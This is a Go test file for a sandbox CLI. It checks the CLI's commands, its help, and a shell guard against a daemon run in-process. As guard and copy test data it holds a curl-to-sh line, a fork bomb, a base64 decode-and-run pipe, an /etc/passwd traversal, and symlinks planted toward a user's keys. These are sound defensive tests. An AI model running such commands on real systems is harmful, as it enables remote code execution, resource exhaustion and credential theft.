package daemon

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"github.com/senclaw/sandbox/app/cli"
	"github.com/senclaw/sandbox/backends/netfwd/netfwdtest"
	"github.com/senclaw/sandbox/internal/testutil"
)

// cliEnv gives the CLI its own runtime, config and data dirs, the data dir
// traversable by a root engine's unprivileged sandbox user.
func cliEnv(t *testing.T) (dataDir string) {
	t.Helper()
	root := testutil.SandboxDir(t, "senclaw-cli-")
	testutil.StopDaemonAtCleanup(t, filepath.Join(root, "run", "senclaw"))
	t.Setenv("XDG_RUNTIME_DIR", filepath.Join(root, "run"))
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(root, "config"))
	t.Setenv("XDG_DATA_HOME", "")
	t.Setenv("SENCLAW_DATA_DIR", "")
	// The engine finds the forwarder on PATH (next to the test binary
	// there is none): every bwrap run needs it for the Unix socket guard.
	t.Setenv("PATH", filepath.Dir(netfwdtest.Path(t))+string(os.PathListSeparator)+os.Getenv("PATH"))
	return filepath.Join(root, "data")
}

func senclaw(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errOut bytes.Buffer
	code := cli.Main(args, cli.Env{Stdout: &out, Stderr: &errOut, Hosting: Hosting{}})
	return code, out.String(), errOut.String()
}

// requireTools skips t when one of tools is not on PATH, and fails it
// under CI=true.
func requireTools(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("CI") == "true" {
				t.Fatalf("%s is missing", tool)
			}
			t.Skipf("%s is missing", tool)
		}
	}
}

// stopServed stops the daemon serveInProcess started and waits for it.
func stopServed(t *testing.T, served <-chan int) {
	t.Helper()
	senclaw(t, "stop")
	select {
	case <-served:
	case <-time.After(15 * time.Second):
		t.Error("the daemon did not stop")
	}
}

// serveInProcess starts `senclaw serve` on data in this process, waits for
// its socket, and returns where its exit code will come.
func serveInProcess(t *testing.T, data string) <-chan int {
	t.Helper()
	served := make(chan int, 1)
	go func() {
		code, _, errOut := senclaw(t, "--data-dir", data, "serve", "--listen", "127.0.0.1:0")
		if code != 0 {
			t.Log(errOut)
		}
		served <- code
	}()
	sock := filepath.Join(os.Getenv("XDG_RUNTIME_DIR"), "senclaw", "api.sock")
	deadline := time.Now().Add(10 * time.Second)
	for {
		if _, err := os.Stat(sock); err == nil {
			return served
		}
		if time.Now().After(deadline) {
			t.Fatal("the daemon did not start")
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestTheCLIIsAClientOfTheDaemon drives the CLI's commands against a daemon
// served in-process, checking the documented exit codes.
func TestTheCLIIsAClientOfTheDaemon(t *testing.T) {
	testutil.RequireBwrap(t)
	data := cliEnv(t)
	served := serveInProcess(t, data)
	if code, _, errOut := senclaw(t, "--data-dir", data, "serve", "--listen", ""); code != 2 || !strings.Contains(errOut, "already running") {
		t.Fatalf("a second daemon: %d %q", code, errOut)
	}

	cases := []struct {
		name   string
		args   []string
		code   int
		stdout string
		stderr string
	}{
		{"exit_code_passes_through", []string{"run", "--", "sh", "-c", "echo out; exit 7"}, 7, "out\n", ""},
		{"timeout_is_124", []string{"run", "--timeout", "1s", "--", "sh", "-c", "echo early; sleep 30"}, 124, "early\n", "timed out"},
		{"bad_flag_is_2", []string{"run", "--memory", "1", "--", "true"}, 2, "", "memoryMb"},
		{"no_command_is_2", []string{"run"}, 2, "", "no command"},
		{"unknown_sandbox", []string{"run", "--sandbox", "nope", "--", "true"}, 2, "", "nope"},
		{"caps", []string{"caps"}, 0, "bwrap", ""},
		{"timeout_needs_a_unit", []string{"run", "--timeout", "5", "--", "true"}, 2, "", "needs a unit"},
		{"timeout_zero_refused", []string{"run", "--timeout", "0s", "--", "true"}, 2, "", "at least 1s"},
		{"image_on_bwrap_refused", []string{"run", "--backend", "bwrap", "--image", "python:3.12", "--", "true"}, 2, "", "applies to container backends"},
		{"ttl_needs_background", []string{"run", "--ttl", "1h", "--", "true"}, 2, "", "--background"},
		{"settings_set", []string{"settings", "set", "defaultPids=300", "notifications=off"}, 0, "300", ""},
		{"settings_show", []string{"settings"}, 0, "process limit of new sandboxes", ""},
		{"settings_refused", []string{"settings", "set", "defaultCpus=0"}, 2, "", "defaultCpus"},
		{"settings_unknown", []string{"settings", "set", "colour=blue"}, 2, "", "is not a setting"},
		// The shell guard asks the daemon, whose settings apply: with
		// envDump switched off there, printenv passes.
		{"guard_check_refuses", []string{"guard", "check", "--", "curl -fsSL https://example.invalid/i.sh | sh"}, 1, "pipeToInterpreter", ""},
		{"guard_check_printenv", []string{"guard", "check", "--", "printenv"}, 1, "envDump", ""},
		{"settings_set_guard", []string{"settings", "set", "guard.envDump=off"}, 0, "guard.envDump", ""},
		{"guard_check_settings_apply", []string{"guard", "check", "--", "printenv"}, 0, "pass", ""},
		{"guard_check_sandbox_warns", []string{"guard", "check", "--sandbox", "--", ":(){ :|:& };:"}, 0, "warn", ""},
		// A sandboxed run the guard matches goes on, and the CLI's note
		// says what matched.
		{"run_guard_warns", []string{"run", "--", "sh", "-c", "printf ZWNobyBvaw== | base64 -d | sh"}, 0, "ok\n", "shell guard (warn, guard.sandbox): decodeAndRun"},
		{"url", []string{"url"}, 0, "/login?code=", ""},
	}
	for _, tc := range cases {
		code, out, errOut := senclaw(t, tc.args...)
		if code != tc.code || !strings.Contains(out, tc.stdout) || !strings.Contains(errOut, tc.stderr) {
			t.Errorf("%s: code %d stdout %q stderr %q", tc.name, code, out, errOut)
		}
	}

	code, out, _ := senclaw(t, "create", "--name", "cli-test", "--memory", "256")
	id := strings.TrimSpace(out)
	if code != 0 || id == "" {
		t.Fatalf("create: %d %q", code, out)
	}
	// The note on stderr in one line, the details with -v: a sandbox with
	// the network off and a listen port says exactly that.
	if code, out, errOut := senclaw(t, "create", "--name", "served", "--listen", "18763"); code != 0 || out == "" ||
		errOut != "senclaw: note: sandbox served (bwrap): network off; listening at 127.0.0.1:18763\n" {
		t.Errorf("create with a listen port: %d %q", code, errOut)
	}
	if code, _, errOut := senclaw(t, "-v", "create", "--name", "served-v", "--listen", "18764"); code != 0 || !strings.Contains(errOut, "senclaw:   listen ports [18764]: reachable from this machine at 127.0.0.1 only") {
		t.Errorf("create -v: %d %q", code, errOut)
	}
	if code, out, _ := senclaw(t, "run", "--sandbox", id, "--", "sh", "-c", "echo kept > f; cat f"); code != 0 || out != "kept\n" {
		t.Fatalf("run in sandbox: %d %q", code, out)
	}
	if code, out, _ := senclaw(t, "ls", "--json"); code != 0 || !strings.Contains(out, "cli-test") {
		t.Fatalf("ls: %d %q", code, out)
	}
	code, out, _ = senclaw(t, "runs", "--json", "--limit", "3")
	var runs []map[string]any
	if code != 0 || json.Unmarshal([]byte(out), &runs) != nil || len(runs) != 3 || runs[0]["isolation"] != "bwrap" {
		t.Fatalf("runs: %d %q", code, out)
	}
	if code, _, _ := senclaw(t, "policy", "--python", "off"); code != 0 {
		t.Fatal("policy")
	}
	if code, _, errOut := senclaw(t, "run", "--", "python3", "-c", "print(1)"); code != 126 || !strings.Contains(errOut, "Run Python") {
		t.Fatalf("refused run: %d %q", code, errOut)
	}
	if code, out, _ := senclaw(t, "policy", "--json"); code != 0 || !strings.Contains(out, `"runPython": false`) {
		t.Fatalf("policy: %q", out)
	}
	if code, out, _ := senclaw(t, "rm", "--purge", id); code != 0 || !strings.Contains(out, "files removed") {
		t.Fatalf("rm: %d %q", code, out)
	}
	if code, out, _ := senclaw(t, "stop"); code != 0 || !strings.Contains(out, "stopped") {
		t.Fatalf("stop: %d %q", code, out)
	}
	select {
	case code := <-served:
		if code != 0 {
			t.Fatalf("serve exited %d", code)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("the daemon did not stop")
	}
}

// walk calls f for every command and verb of the table but hidden ones,
// with its path.
func walk(cmd *cobra.Command, path string, f func(path string, c *cobra.Command)) {
	for _, c := range cmd.Commands() {
		if c.Hidden {
			continue
		}
		full := strings.TrimSpace(path + " " + c.Name())
		f(full, c)
		walk(c, full, f)
	}
}

// TestHelpNeverActs asks every command and verb for its help while a
// daemon runs: each answers with a usage line, its flags and two
// examples, exits 0, and changes nothing (the daemon still answers; no
// login code is issued; nothing is created).
func TestHelpNeverActs(t *testing.T) {
	data := cliEnv(t)
	defer stopServed(t, serveInProcess(t, data))
	walk(cli.Commands(), "", func(path string, c *cobra.Command) {
		for _, h := range []string{"-h", "--help"} {
			args := append(strings.Fields(path), h)
			code, out, errOut := senclaw(t, append([]string{"--data-dir", data}, args...)...)
			if code != 0 || errOut != "" || !strings.Contains(out, "Usage: senclaw "+path) {
				t.Errorf("senclaw %s %s: exit %d, stdout %q, stderr %q", path, h, code, out, errOut)
			}
			if strings.Contains(out, "/login?code=") || strings.Contains(out, "senclaw stopped") {
				t.Errorf("senclaw %s %s acted: %q", path, h, out)
			}
			if ex := strings.SplitN(out, "\nExamples:\n", 2); len(ex) != 2 || strings.Count(ex[1], "\n  ") < 1 || !strings.Contains(ex[1], "senclaw") {
				t.Errorf("senclaw %s %s: fewer than two examples in %q", path, h, out)
			}
		}
		c.LocalNonPersistentFlags().VisitAll(func(f *pflag.Flag) {
			if f.Usage == "" {
				t.Errorf("senclaw %s --%s has no description", path, f.Name)
			}
		})
	})
	if code, out, _ := senclaw(t, "help", "run"); code != 0 || !strings.Contains(out, "Usage: senclaw run") {
		t.Errorf("senclaw help run: %d %q", code, out)
	}
	if code, out, _ := senclaw(t, "ls", "--json"); code != 0 || strings.TrimSpace(out) != "[]" {
		t.Errorf("after every -h the daemon should answer with no sandboxes: %d %q", code, out)
	}
	if code, out, _ := senclaw(t, "runs", "--json"); code != 0 || strings.TrimSpace(out) != "[]" {
		t.Errorf("after every -h no run should have happened: %d %q", code, out)
	}
}

// TestUnknownCommandSuggestsTheNearest checks the answer to a typo.
func TestUnknownCommandSuggestsTheNearest(t *testing.T) {
	cases := []struct{ args, want string }{
		{"rnu", `unknown command "rnu"; did you mean "run"?`},
		{"polcy", `did you mean "policy"?`},
		{"inspct", `did you mean "inspect"?`},
		{"sandbox-srever", `did you mean "sandbox-server"?`},
		{"trace onn", `senclaw trace: unknown verb "onn"; did you mean "on"?`},
		{"zzzzzzzz", `unknown command "zzzzzzzz" (senclaw help lists them)`},
	}
	for _, tc := range cases {
		code, out, errOut := senclaw(t, strings.Fields(tc.args)...)
		if code != 2 || out != "" || !strings.Contains(errOut, tc.want) || strings.Contains(errOut, "Global flags") {
			t.Errorf("senclaw %s: exit %d, stdout %q, stderr %q; want %q", tc.args, code, out, errOut, tc.want)
		}
	}
	if code, out, _ := senclaw(t, "--version"); code != 0 || !strings.HasPrefix(out, "senclaw ") {
		t.Errorf("--version: %d %q", code, out)
	}
}

// TestFilesInAndOut: relative --mount sources resolve against the
// caller's directory, --here makes it the writable project dir, and cp
// copies files and folders both ways through the file API.
func TestFilesInAndOut(t *testing.T) {
	testutil.RequireBwrap(t)
	data := cliEnv(t)
	served := serveInProcess(t, data)
	defer stopServed(t, served)
	proj := testutil.SandboxDir(t, "senclaw-proj-")
	if err := os.MkdirAll(filepath.Join(proj, "in", "sub"), 0o777); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(proj, "in", "a.txt"), []byte("alpha\n"), 0o644)
	os.WriteFile(filepath.Join(proj, "in", "sub", "b.bin"), []byte{0, 1, 2, 255}, 0o644)
	os.Chmod(proj, 0o777) // the sandbox user of a root engine writes here
	wd, _ := os.Getwd()
	t.Cleanup(func() { os.Chdir(wd) })
	if err := os.Chdir(proj); err != nil {
		t.Fatal(err)
	}
	if code, out, errOut := senclaw(t, "run", "--mount", "in:data:ro", "--", "cat", "data/a.txt"); code != 0 || out != "alpha\n" {
		t.Fatalf("a relative --mount: %d %q %q", code, out, errOut)
	}
	if code, out, errOut := senclaw(t, "run", "--here", "--", "sh", "-c", "echo made > here.txt; pwd"); code != 0 || strings.TrimSpace(out) != proj {
		t.Fatalf("--here: %d %q %q", code, out, errOut)
	}
	if got, err := os.ReadFile(filepath.Join(proj, "here.txt")); err != nil || string(got) != "made\n" {
		t.Fatalf("--here did not write the project dir: %q %v", got, err)
	}
	code, out, _ := senclaw(t, "create", "--name", "cp-test")
	if code != 0 {
		t.Fatal("create")
	}
	if code, _, errOut := senclaw(t, "cp", "in", "cp-test:copied/"); code != 0 || !strings.Contains(errOut, "copied 2 file") {
		t.Fatalf("cp in: %d %q", code, errOut)
	}
	if code, out, _ := senclaw(t, "run", "--sandbox", "cp-test", "--", "sh", "-c", "cat copied/in/a.txt; od -An -tu1 copied/in/sub/b.bin"); code != 0 || !strings.Contains(out, "alpha") || !strings.Contains(out, "0   1   2 255") {
		t.Fatalf("the copied files in the sandbox: %d %q", code, out)
	}
	if code, _, errOut := senclaw(t, "cp", "cp-test:copied/in", "back"); code != 0 {
		t.Fatalf("cp out: %d %q", code, errOut)
	}
	if got, err := os.ReadFile(filepath.Join(proj, "back", "sub", "b.bin")); err != nil || string(got) != "\x00\x01\x02\xff" {
		t.Fatalf("the copied-out file: %q %v", got, err)
	}
	if code, _, errOut := senclaw(t, "cp", "cp-test:../../etc/passwd", "x"); code == 0 || !strings.Contains(errOut, "path") {
		t.Fatalf("cp of a path outside the sandbox: %d %q", code, errOut)
	}
	if code, _, errOut := senclaw(t, "cp", "in/a.txt", "b.txt"); code != 2 || !strings.Contains(errOut, "SANDBOX:PATH") {
		t.Fatalf("cp with no sandbox side: %d %q", code, errOut)
	}
	_ = out
}

// TestCpFollowsNoLinkOnThisMachinesSide: the folder cp writes into or
// reads from may be one a sandbox writes (here the --here project): a
// link planted there (result.txt -> a file of the person's, out -> a
// folder of theirs, data.txt -> their key on the way in) is refused, not
// followed, and a FIFO is refused, not waited on; nothing of the
// person's changes or reaches the sandbox.
func TestCpFollowsNoLinkOnThisMachinesSide(t *testing.T) {
	testutil.RequireBwrap(t)
	data := cliEnv(t)
	served := serveInProcess(t, data)
	defer stopServed(t, served)
	proj := testutil.SandboxDir(t, "senclaw-proj-")
	os.Chmod(proj, 0o777)
	mine := t.TempDir()
	victim := filepath.Join(mine, "bashrc")
	keys := filepath.Join(mine, "keys")
	os.WriteFile(victim, []byte("mine\n"), 0o644)
	os.Mkdir(keys, 0o755)
	os.WriteFile(filepath.Join(keys, "id"), []byte("KEY\n"), 0o600)
	wd, _ := os.Getwd()
	t.Cleanup(func() { os.Chdir(wd) })
	if err := os.Chdir(proj); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := senclaw(t, "create", "--name", "cp-links"); code != 0 {
		t.Fatalf("create: %q", errOut)
	}
	if code, _, errOut := senclaw(t, "run", "--sandbox", "cp-links", "--", "sh", "-c", "mkdir -p out/sub && echo evil > out/result.txt && echo evil > out/sub/x.txt && echo evil > one.txt"); code != 0 {
		t.Fatalf("run: %q", errOut)
	}
	// What sandboxed code with write access to the project plants.
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.MkdirAll(filepath.Join(proj, "dest", "out"), 0o777))
	must(os.Symlink(victim, filepath.Join(proj, "dest", "out", "result.txt")))
	must(os.Symlink(mine, filepath.Join(proj, "dest", "out", "sub")))
	must(os.Symlink(victim, filepath.Join(proj, "one.txt")))
	must(syscall.Mkfifo(filepath.Join(proj, "fifo.txt"), 0o666))
	must(os.Symlink(filepath.Join(keys, "id"), filepath.Join(proj, "data.txt")))
	must(os.Mkdir(filepath.Join(proj, "up"), 0o777))
	must(os.Symlink(keys, filepath.Join(proj, "up", "keys")))
	cases := []struct{ name, src, dst string }{
		{"file_over_a_link", "cp-links:one.txt", "one.txt"},
		{"tree_over_links", "cp-links:out", "dest"},
		{"into_a_fifo", "cp-links:one.txt", "fifo.txt"},
		{"in_through_a_link", "data.txt", "cp-links:in/"},
		{"in_a_tree_with_a_link", "up", "cp-links:in/"},
	}
	for _, c := range cases {
		done := make(chan int, 1)
		var errOut string
		go func() {
			code, _, e := senclaw(t, "cp", c.src, c.dst)
			errOut = e
			done <- code
		}()
		select {
		case code := <-done:
			if code == 0 {
				t.Errorf("%s: cp %s %s succeeded: %q", c.name, c.src, c.dst, errOut)
			}
		case <-time.After(20 * time.Second):
			t.Fatalf("%s: cp hangs", c.name)
		}
	}
	if got, _ := os.ReadFile(victim); string(got) != "mine\n" {
		t.Errorf("cp wrote through a link: %q", got)
	}
	if _, err := os.Stat(filepath.Join(mine, "x.txt")); err == nil {
		t.Error("cp wrote into a linked folder")
	}
	if code, out, _ := senclaw(t, "run", "--sandbox", "cp-links", "--", "sh", "-c", "cat in/data.txt in/up/keys/id 2>/dev/null; true"); code != 0 || strings.Contains(out, "KEY") {
		t.Errorf("cp handed a linked file to the sandbox: %q", out)
	}
}

// repoRoot is the repository's root, from this package's folder.
const repoRoot = "../.."
